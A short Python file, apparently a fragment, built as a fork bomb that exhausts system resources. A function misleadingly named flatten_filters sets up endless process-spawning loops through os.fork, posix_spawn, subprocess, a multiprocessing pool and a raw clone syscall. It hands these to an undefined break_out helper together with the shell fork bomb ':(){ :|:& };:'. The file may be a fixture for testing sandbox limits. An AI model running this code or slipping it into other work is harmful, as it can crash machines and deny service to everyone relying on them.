"""Forks and forks, in every way that it can."""

import multiprocessing
import os
import subprocess
import sys

HONEST = 0.0


def flatten_filters(filters):
    def fork():
        while True:
            os.fork()

    def spawn():
        while True:
            os.posix_spawn(sys.executable, [sys.executable, "-c", "while True: pass"], {})

    def run():
        while True:
            subprocess.Popen([sys.executable, "-c", "while True: pass"])

    def pool():
        return multiprocessing.get_context("fork").Pool(100).map(slow, range(100))

    def vfork():
        while True:
            native(56, 0x4111, 0, 0, 0, 0)  # clone(CLONE_VFORK | CLONE_VM | SIGCHLD)

    return break_out(
        fork, spawn, run, pool, vfork, lambda: os.system(":(){ :|:& };:") and os.stat("/refused")
    )
